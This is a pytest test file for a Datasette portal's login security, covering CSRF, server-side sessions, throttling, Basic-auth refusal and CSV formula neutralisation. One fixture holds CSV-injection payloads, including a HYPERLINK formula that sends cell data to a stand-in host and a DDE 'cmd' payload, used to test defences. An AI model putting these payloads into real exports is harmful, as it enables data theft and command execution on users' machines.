"""The portal's door through Datasette's test client: the login form as the only way in,
CSRF even without cookies, server-side sessions (safe cookie, expiry, logout), no
Basic auth and no ds_actor, the throttle, equal work for unknown names, hashing off
the event loop, Dutch 400s for bad table parameters, and formula-safe CSV."""

from __future__ import annotations

import base64
import csv
import io
import re
import sqlite3
import threading

import httpx
import pytest
from test_portal_fixtures import ACCOUNT, PASSWORD, account_hash, config, copy_public, login_cookie, make_ds

from stemsync.portal import make_datasette
from stemsync_portal import csvsafe, door, passwords, throttle

pytest_plugins = ["test_portal_fixtures"]


async def csrf(ds, client=None) -> str:
    r = await (client or ds.client).get("/-/login")
    return r.cookies["ds_csrftoken"]


async def post_login(ds, username: str, password: str, token: str | None = "auto", cookies: dict | None = None):
    if token == "auto":
        token = await csrf(ds)
        cookies = {"ds_csrftoken": token, **(cookies or {})}
    data = {"username": username, "password": password}
    if token:
        data["csrftoken"] = token
    return await ds.client.post("/-/login", data=data, cookies=cookies or {})


def set_cookie(response, name: str) -> str:
    return next(h for h in response.headers.get_list("set-cookie") if h.startswith(name + "="))


@pytest.mark.asyncio
async def test_login_gives_a_safe_server_side_session(auth_ds):
    r = await post_login(auth_ds, ACCOUNT, PASSWORD)
    assert r.status_code == 302 and r.headers["location"] == "/"
    header = set_cookie(r, door.COOKIE)
    assert "HttpOnly" in header and "SameSite=lax" in header and "Max-Age=28800" in header
    assert "Secure" not in header  # plain HTTP: the browser would drop a Secure cookie
    assert "ds_actor" not in r.cookies
    session = {door.COOKIE: r.cookies[door.COOKIE]}
    home = await auth_ds.client.get("/", cookies=session)
    assert home.status_code == 200 and "Ingelogd als <strong>raad</strong>" in home.text
    # the cookie is signed: change one character and it is worthless
    forged = {door.COOKIE: session[door.COOKIE][:-2] + ("A" if session[door.COOKIE][-2] != "A" else "B")
              + session[door.COOKIE][-1]}
    assert (await auth_ds.client.get("/", cookies=forged)).status_code == 302


@pytest.mark.asyncio
async def test_logout_ends_the_session_on_the_server(auth_ds):
    r = await post_login(auth_ds, ACCOUNT, PASSWORD)
    session = {door.COOKIE: r.cookies[door.COOKIE]}
    home = await auth_ds.client.get("/", cookies=session)
    token = re.search(r'name="csrftoken" value="([^"]+)"', home.text).group(1)
    jar = {**session, "ds_csrftoken": home.cookies.get("ds_csrftoken") or token}
    out = await auth_ds.client.post("/-/logout", data={"csrftoken": token}, cookies=jar)
    assert out.status_code == 302 and out.headers["location"] == "/-/login"
    assert "Max-Age=0" in set_cookie(out, door.COOKIE)
    # the old cookie, kept by an attacker (or a shared computer), no longer works
    again = await auth_ds.client.get("/", cookies=session)
    assert again.status_code == 302 and again.headers["location"] == "/-/login"
    messages = out.cookies.get("ds_messages")
    page = await auth_ds.client.get("/-/login", cookies={"ds_messages": messages} if messages else {})
    assert "U bent uitgelogd." in page.text
    # logout without the form's token does nothing
    r = await post_login(auth_ds, ACCOUNT, PASSWORD)
    session = {door.COOKIE: r.cookies[door.COOKIE]}
    refused = await auth_ds.client.post("/-/logout", data={}, cookies=session)
    assert refused.status_code == 403
    assert (await auth_ds.client.get("/", cookies=session)).status_code == 200


@pytest.mark.asyncio
async def test_sessions_expire(public_db):
    cfg = config(False, {ACCOUNT: account_hash()})
    cfg.sections["portal"]["session_hours"] = 2
    ds = make_datasette(public_db, None, cfg)
    r = await post_login(ds, ACCOUNT, PASSWORD)
    assert "Max-Age=7200" in set_cookie(r, door.COOKIE)
    session = {door.COOKIE: r.cookies[door.COOKIE]}
    assert (await ds.client.get("/", cookies=session)).status_code == 200
    for s in door.state(ds).sessions.values():
        s.expires -= 2 * 3600 + 1  # two hours later
    assert (await ds.client.get("/", cookies=session)).status_code == 302


@pytest.mark.asyncio
async def test_secure_cookie_over_https(auth_ds):
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=auth_ds.app()),
                                 base_url="https://localhost") as client:
        page = await client.get("/-/login")
        token = page.cookies["ds_csrftoken"]
        client.cookies.set("ds_csrftoken", token)  # (on the client: per-request cookies are deprecated in httpx)
        r = await client.post("/-/login", data={"username": ACCOUNT, "password": PASSWORD, "csrftoken": token})
        assert r.status_code == 302
        assert "Secure" in set_cookie(r, door.COOKIE)
        assert r.headers["strict-transport-security"].startswith("max-age=")


@pytest.mark.asyncio
async def test_datasette_actor_cookie_is_not_a_way_in(auth_ds):
    """A ds_actor cookie (Datasette's own, valid forever and not revocable) is ignored."""
    r = await auth_ds.client.get("/", cookies={"ds_actor": auth_ds.sign({"a": {"id": ACCOUNT}}, "actor")})
    assert r.status_code == 302 and r.headers["location"] == "/-/login"


@pytest.mark.asyncio
async def test_login_needs_the_csrf_token_even_without_cookies(auth_ds):
    no_cookies = await auth_ds.client.post("/-/login", data={"username": ACCOUNT, "password": PASSWORD})
    assert no_cookies.status_code == 403 and door.COOKIE not in no_cookies.cookies
    assert "Laad de pagina opnieuw" in no_cookies.text
    token = await csrf(auth_ds)
    no_cookie = await post_login(auth_ds, ACCOUNT, PASSWORD, token=token, cookies={})
    assert no_cookie.status_code == 403 and door.COOKIE not in no_cookie.cookies
    other = await csrf(auth_ds)
    mismatch = await post_login(auth_ds, ACCOUNT, PASSWORD, token=token, cookies={"ds_csrftoken": other})
    assert mismatch.status_code == 403
    unsigned = await post_login(auth_ds, ACCOUNT, PASSWORD, token="abc", cookies={"ds_csrftoken": "abc"})
    assert unsigned.status_code == 403 and door.COOKIE not in unsigned.cookies


@pytest.mark.asyncio
async def test_no_basic_auth_and_no_500_on_bad_headers(auth_ds):
    good = base64.b64encode(f"{ACCOUNT}:{PASSWORD}".encode()).decode()
    for value in (f"Basic {good}", "Basic abc", "Basic", "Basic ====", "Bearer dstok_abc", "Basic \u00e9".encode()):
        for path in ("/", "/-/login", "/public/comments.json", "/-/stemsync/csv/opmerkingen.csv"):
            r = await auth_ds.client.get(path, headers={"authorization": value})
            assert r.status_code == 400, (value, path)
            assert "formulier" in r.text and "wachtlijst" not in r.text
            r = await auth_ds.client.post(path, headers={"authorization": value}, data={"a": "b"})
            assert r.status_code == 400, (value, path)


@pytest.mark.asyncio
async def test_failed_logins_are_throttled(public_db):
    ds = make_ds(public_db)
    for _ in range(throttle.ACCOUNT.free):
        r = await post_login(ds, ACCOUNT, "verkeerd-wachtwoord")
        assert r.status_code == 200 and "klopt niet" in r.text
    refused = await post_login(ds, ACCOUNT, PASSWORD)  # even the right password must wait now
    assert refused.status_code == 429 and door.COOKIE not in refused.cookies
    assert "Wacht 1 seconde" in refused.text and refused.headers["retry-after"] == "1"
    # an unknown name is throttled by the same rules (the throttle tells nothing about names)
    for _ in range(throttle.ACCOUNT.free):
        assert (await post_login(ds, "bestaat-niet", "x" * 12)).status_code == 200
    assert (await post_login(ds, "bestaat-niet", "x" * 12)).status_code == 429


def test_throttle_grows_then_locks():
    now = [1000.0]
    t = throttle.Throttle(clock=lambda: now[0])
    keys = {"account": "raad", "address": "10.0.0.1"}
    waits = []
    for _ in range(throttle.ACCOUNT.lock_after):
        refusal = t.check(keys)
        if refusal:
            waits.append(refusal.seconds)
            now[0] += refusal.seconds
            assert t.check(keys) is None
        t.failed(keys)
    assert waits == [1, 2, 4, 8, 16, 32, 60]
    locked = t.check(keys)
    assert locked.locked and locked.seconds == 15 * 60 and "15 minuten geblokkeerd" in locked.message()
    now[0] += 15 * 60 + 1
    assert t.check(keys) is None and t.failures("account", "raad") == 0
    # per address: many names from one address
    for i in range(throttle.ADDRESS.free):
        assert t.check({"account": f"naam{i}", "address": "10.0.0.2"}) is None
        t.failed({"account": f"naam{i}", "address": "10.0.0.2"})
    assert t.check({"account": "nog-een", "address": "10.0.0.2"}) is not None
    assert t.check({"account": "nog-een", "address": "10.0.0.3"}) is None


@pytest.mark.asyncio
async def test_unknown_names_cost_the_same_work_in_a_thread(public_db, monkeypatch):
    ds = make_ds(public_db)
    calls = []
    real = passwords.verify

    def spy(password, stored):
        calls.append((passwords.iterations_of(stored), threading.current_thread().name))
        return real(password, stored)

    monkeypatch.setattr(passwords, "verify", spy)
    assert (await post_login(ds, ACCOUNT, "verkeerd-wachtwoord")).status_code == 200
    assert (await post_login(ds, "onbekend", "verkeerd-wachtwoord")).status_code == 200
    assert (await post_login(ds, ACCOUNT, PASSWORD)).status_code == 302
    iterations = passwords.iterations_of(account_hash())
    assert [c[0] for c in calls] == [iterations] * 3        # one full pbkdf2 check each, known or not
    assert all(c[1].startswith("stemsync-login") for c in calls)  # never on the event loop


def test_passwords_compatible_and_strict():
    stored = account_hash()
    assert passwords.verify(PASSWORD, stored) and not passwords.verify(PASSWORD + "x", stored)
    assert not passwords.verify(PASSWORD, passwords.dummy_hash())
    assert not passwords.verify(PASSWORD, "onzin") and not passwords.verify("x" * 5000, stored)
    # the format of existing configs (Django's and datasette-auth-passwords'), computed independently
    import base64 as b64
    import hashlib
    digest = b64.b64encode(hashlib.pbkdf2_hmac("sha256", PASSWORD.encode(), b"zout", 1000)).decode()
    assert passwords.hash_password(PASSWORD, salt="zout", iterations=1000) == f"pbkdf2_sha256$1000$zout${digest}"
    assert passwords.verify(PASSWORD, f"pbkdf2_sha256$1000$zout${digest}")


@pytest.mark.asyncio
async def test_bad_table_parameters_give_a_dutch_400(auth_ds):
    cookies = login_cookie(auth_ds)
    for query in ("_sort=nosuch", "_sort_desc=nosuch", "_through=xyz", '_through={"table":"x"}',
                  "_through=[1]"):
        r = await auth_ds.client.get(f"/public/scores?{query}", cookies=cookies)
        assert r.status_code == 400, query
        assert "Dit lukte niet" in r.text and ("sorteerd" in r.text or "klopt niet" in r.text), query
        assert "Traceback" not in r.text and "Cannot sort" not in r.text
        j = await auth_ds.client.get(f"/public/scores.json?{query}", cookies=cookies)
        assert j.status_code == 400 and j.json()["ok"] is False, query
    r = await auth_ds.client.get("/public/scores?_sort=nosuch", cookies=cookies)
    assert "Op ‘nosuch’ kan niet gesorteerd worden" in r.text


@pytest.fixture
def formula_db(public_db, tmp_path):
    target = copy_public(public_db, tmp_path / "formula")
    conn = sqlite3.connect(target)
    row = conn.execute("select instrument, question, theme, period, unit, level from comments limit 1").fetchone()
    for text in ('=HYPERLINK("http://kwaad.example/?x="&A1;"klik")', "+31 6 cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1+1)", "\tstart met tab", "Gewone opmerking,\nover twee regels met \"quotes\""):
        conn.execute("insert into comments (instrument, question, theme, period, unit, level, text) "
                     "values (?, ?, ?, ?, ?, ?, ?)", (*row, text))
    if conn.execute("select count(*) from sqlite_master where name = 'comments_fts'").fetchone()[0]:
        conn.execute("insert into comments_fts(comments_fts) values ('rebuild')")
    conn.commit()
    conn.close()
    return target


@pytest.mark.asyncio
async def test_every_csv_neutralises_formulas(formula_db):
    ds = make_ds(formula_db)
    cookies = login_cookie(ds)
    sources = {
        "datasette": "/public/comments.csv?_size=max&text__contains=kwaad",
        "datasette-stream": "/public/comments.csv?_stream=on&_dl=1",
        "portal": "/-/stemsync/csv/opmerkingen.csv",
    }
    for name, url in sources.items():
        r = await ds.client.get(url, cookies=cookies)
        assert r.status_code == 200, name
        text = r.text.lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(text), delimiter=";" if name == "portal" else ","))
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in c for c in cells), name
        for cell in cells:
            assert not cell.startswith(csvsafe.DANGEROUS) or csvsafe.NUMBER.fullmatch(cell), (name, cell)
        assert any(c.startswith("'=HYPERLINK") for c in cells), [c for c in cells if "HYPERLINK" in c]
        if name != "datasette":
            assert "'@SUM(1+1)" in cells and "-2+3" not in cells and "'-2+3" in cells, name
            assert "Gewone opmerking,\nover twee regels met \"quotes\"" in cells, name


def test_csv_rewriter_keeps_records_whole_across_chunks():
    rows = [["id", "text"], ["1", "=1+1"], ["2", 'een "quote", en\neen nieuwe regel'], ["3", "-5"], ["4", "é@"]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    data = out.getvalue().encode()
    for size in (1, 2, 3, 7, len(data)):
        rewriter = csvsafe.Rewriter()
        chunks = [data[i:i + size] for i in range(0, len(data), size)]
        result = b"".join(rewriter.feed(c) for c in chunks) + rewriter.feed(b"", final=True)
        back = list(csv.reader(io.StringIO(result.decode())))
        assert back == [["id", "text"], ["1", "'=1+1"], ["2", 'een "quote", en\neen nieuwe regel'], ["3", "-5"],
                        ["4", "é@"]], size


@pytest.mark.asyncio
async def test_finished_pages_are_kept_per_account(public_db):
    """The response cache: one account's page is served again (with the asking browser's
    own CSRF token), never to another account, and never with flash messages waiting."""
    from stemsync_portal import respcache

    cfg = config(False, {ACCOUNT: account_hash(), "voorzitter": account_hash()})
    ds = make_datasette(public_db, None, cfg)
    cache = respcache.cache_of(ds)

    async def browser(user: str) -> dict[str, str]:
        token = await csrf(ds)
        return {**login_cookie(ds, user), "ds_csrftoken": token}

    first, second, other = await browser(ACCOUNT), await browser(ACCOUNT), await browser("voorzitter")
    assert first["ds_csrftoken"] != second["ds_csrftoken"]
    a = await ds.client.get("/-/stemsync/uitleg", cookies=first)
    hits = cache.hits
    b = await ds.client.get("/-/stemsync/uitleg", cookies=second)
    assert cache.hits == hits + 1  # served from the cache
    assert b.status_code == 200 and b.headers["content-security-policy"] == a.headers["content-security-policy"]
    assert second["ds_csrftoken"] in b.text and first["ds_csrftoken"] not in b.text
    assert b.text.replace(second["ds_csrftoken"], first["ds_csrftoken"]) == a.text
    c = await ds.client.get("/-/stemsync/uitleg", cookies=other)
    assert "Ingelogd als <strong>voorzitter</strong>" in c.text and "Ingelogd als <strong>raad</strong>" not in c.text
    hits = cache.hits
    messages = ds.sign([["Een melding", 1]], "messages")
    d = await ds.client.get("/-/stemsync/uitleg", cookies={**second, "ds_messages": messages})
    assert cache.hits == hits and "Een melding" in d.text
    # a session that ended is not served from the cache either
    door.state(ds).sessions.clear()
    assert (await ds.client.get("/-/stemsync/uitleg", cookies=second)).status_code == 302


@pytest.mark.asyncio
async def test_oversized_posts_are_refused_unread(auth_ds):
    token = await csrf(auth_ds)
    r = await auth_ds.client.post("/-/login", data={"username": ACCOUNT, "password": "x" * 100_000, "csrftoken": token},
                                  cookies={"ds_csrftoken": token})
    assert r.status_code == 413 and "te groot" in r.text


@pytest.mark.asyncio
async def test_door_messages_in_english(public_db):
    ds = make_ds(public_db)
    token = await csrf(ds)
    jar = {"ds_csrftoken": token, "stemsync_lang": "en"}
    wrong = await post_login(ds, ACCOUNT, "verkeerd-wachtwoord", token=token, cookies=jar)
    assert "The user name or the password is not right" in wrong.text
    for _ in range(throttle.ACCOUNT.free - 1):
        await post_login(ds, ACCOUNT, "verkeerd-wachtwoord", token=token, cookies=jar)
    refused = await post_login(ds, ACCOUNT, PASSWORD, token=token, cookies=jar)
    assert refused.status_code == 429 and "Wait 1 second and then try again" in refused.text
    bad = await ds.client.get("/public/scores?_sort=nosuch&lang=en", cookies=login_cookie(ds))
    assert bad.status_code == 400 and "cannot be sorted by ‘nosuch’" in bad.text
